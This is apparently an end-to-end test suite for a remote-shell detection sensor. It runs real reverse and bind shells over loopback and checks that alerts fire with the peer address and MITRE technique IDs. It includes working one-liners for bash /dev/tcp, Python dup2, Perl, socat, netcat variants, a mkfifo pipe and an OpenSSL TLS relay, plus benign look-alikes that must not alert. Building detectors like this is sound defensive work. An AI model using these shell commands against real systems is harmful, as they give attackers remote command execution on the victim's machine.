-- Shells over the loopback, made by the real programs. The listener sends `echo mark-$((6*7))` and `exit`; that
-- "mark-42" comes back proves that the shell took its commands from the network.
local e2e = require "tests.e2e.harness"

local TEXT = "export TEXT=$'echo mark-$((6*7))\\nexit\\n'\n"

--- Runs the act, expects one alert of remote-shell at least and nothing else, with the peer's address and port.
local function expect_shell(act, fields, programs)
  return function(dir)
    local run = e2e.watch(dir, TEXT .. act)
    assert.truthy((e2e.read(dir .. "/got") or ""):find("mark-42", 1, true), "the shell did not run: " .. run.act_err)
    local port = e2e.read(dir .. "/port"):match("%d+")
    local alert = e2e.alert(run, "remote-shell", fields)
    local peer = "127.0.0.1:" .. port
    assert.truthy(alert.message:find(peer, 1, true), alert.message)
    assert.equal(peer, alert.moonwatch.evidence.peer)
    assert.equal("critical", alert.log.level)
    assert.same({ "T1059.004", "T1071" }, alert.threat.technique.id)
    assert.equal(1, #run.alerts, "alerts for one act: " .. e2e.list(run.alerts))
  end, programs
end

--- A shell that calls out: `act` runs with $PORT.
local function calls_out(act)
  return ([[peer listen "$DIR/got" bash -c 'echo $PORT >"$DIR/port"; %s']]):format(act:gsub("'", "'\\''"))
end

--- A shell behind a port: `act` listens on $PORT.
local function is_called(act)
  return [[
PORT=$((20000 + RANDOM % 10000))
]] .. act .. [[ &
peer call "$DIR/got" $PORT >"$DIR/port"
wait
]]
end

local function out(name, act, fields, programs)
  e2e.live(name, expect_shell(calls_out(act), fields, programs))
end

describe("a shell that calls out", function()
  out("bash -i on /dev/tcp", "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1; true", { ["process.name"] = "bash" })
  out("exec of a descriptor, sh <&196", "exec 196<>/dev/tcp/127.0.0.1/$PORT; sh <&196 >&196 2>&196; true",
    { ["process.executable"] = "/usr/bin/dash" })
  out("python3 dup2 and call", [[python3 -c 'import os,socket,subprocess
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])))
for n in 0, 1, 2: os.dup2(s.fileno(), n)
subprocess.call(["/bin/sh", "-i"])'; true]], { ["process.parent.executable"] = e2e.real("python3") }, "python3")
  out("python3 dup2 and execve", [[python3 -c 'import os,socket
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])))
for n in 0, 1, 2: os.dup2(s.fileno(), n)
os.execve("/bin/sh", ["sh"], {})'; true]], { ["process.command_line"] = "sh" }, "python3")
  out("python3 pty.spawn", [[python3 -c 'import os,pty,socket
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])))
for n in 0, 1, 2: os.dup2(s.fileno(), n)
pty.spawn("/bin/bash")'; true]], { ["process.name"] = "bash" }, "python3")
  out("perl", [[perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0);
connect(S, sockaddr_in($ENV{PORT}, inet_aton("127.0.0.1"))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");'; true]],
    { ["process.name"] = "dash" }, "perl")
  out("socat EXEC", "socat TCP:127.0.0.1:$PORT EXEC:/bin/bash; true", { ["process.name"] = "bash" }, "socat")
  out("socat EXEC with a terminal", "socat TCP:127.0.0.1:$PORT EXEC:/bin/bash,pty,stderr,setsid,ctty; true",
    { ["process.name"] = "bash" }, "socat")
  out("netcat-traditional -e", "nc.traditional -e /bin/bash 127.0.0.1 $PORT; true", { ["process.name"] = "bash" },
    "nc.traditional")
  out("ncat -e", "ncat -e /bin/bash 127.0.0.1 $PORT; true", { ["process.name"] = "bash" }, "ncat")
  out("ncat --sh-exec", "ncat --sh-exec \"exec /bin/bash -i\" 127.0.0.1 $PORT; true", { ["process.name"] = "bash" }, "ncat")
  out("a shell below a shell that was given a command", "ncat --sh-exec 'sh; true' 127.0.0.1 $PORT; true",
    { ["process.name"] = "dash" }, "ncat")
  out("busybox nc -e", "busybox nc 127.0.0.1 $PORT -e /bin/sh; true", { ["process.name"] = "dash" }, "busybox nc.traditional")
  out("mkfifo and nc", "cd $DIR; mkfifo f; cat f | sh -i 2>&1 | nc.openbsd -N 127.0.0.1 $PORT >f; true",
    {}, "nc.openbsd")
end)

-- The relay is a TLS client; what the sensor sees is the connection, not what is said over it.
local TLS = [[
cd $DIR
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=localhost -keyout key -out cert -days 1
mkfifo hold f
exec 9<>hold
openssl s_server -accept 127.0.0.1:0 -key key -cert cert <hold >got &
server=$!
echo "$TEXT" >&9
await grep -q ACCEPT got
PORT=$(sed -n 's/^ACCEPT.*://p' got)
echo $PORT >port
sh -i <f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$PORT >f &
await grep -q mark-42 got
kill $server
wait
]]

describe("a shell behind a TLS client", function()
  e2e.live("mkfifo and openssl s_client", expect_shell(TLS, {}), "openssl")
end)

--- What looks alike and is none: no alert of any detection.
local function quiet(name, act, programs)
  e2e.live(name, function(dir)
    local run = e2e.watch(dir, "export SAY_NO_MORE=1 TEXT='echo mark-42'\n" .. calls_out(act))
    assert.truthy((e2e.read(dir .. "/done") or ""):find("mark-42", 1, true), "the act did not run: " .. run.act_err)
    e2e.quiet(run)
  end, programs)
end

describe("no remote shell is", function()
  quiet("a shell that asks whether a port is open", ": </dev/tcp/127.0.0.1/$PORT && echo mark-42 >$DIR/done")
  quiet("a shell that reads from the network", "cat </dev/tcp/127.0.0.1/$PORT >$DIR/done")
  quiet("a downloaded script piped into a shell", "socat -u TCP:127.0.0.1:$PORT - | sh >$DIR/done", "socat")
  quiet("a script that logs to the network",
    "printf \"echo mark-42 >$DIR/done; date\" >$DIR/script; sh $DIR/script >/dev/tcp/127.0.0.1/$PORT")
  quiet("a command whose input is a connection", "sh -c \"cat >$DIR/done\" </dev/tcp/127.0.0.1/$PORT")
  e2e.live("a shell on a terminal of its own", function(dir)
    local run = e2e.watch(dir, [[echo "echo mark-42 >$DIR/done" | script -qc sh /dev/null]])
    assert.equal("mark-42\n", e2e.read(dir .. "/done"))
    e2e.quiet(run)
  end, "script")
end)

describe("a shell behind a port", function()
  e2e.live("netcat-traditional -l -e", expect_shell(is_called(
    [[bash -c 'nc.traditional -l -p '$PORT' -s 127.0.0.1 -e /bin/bash']]), {}, "nc.traditional"))
end)
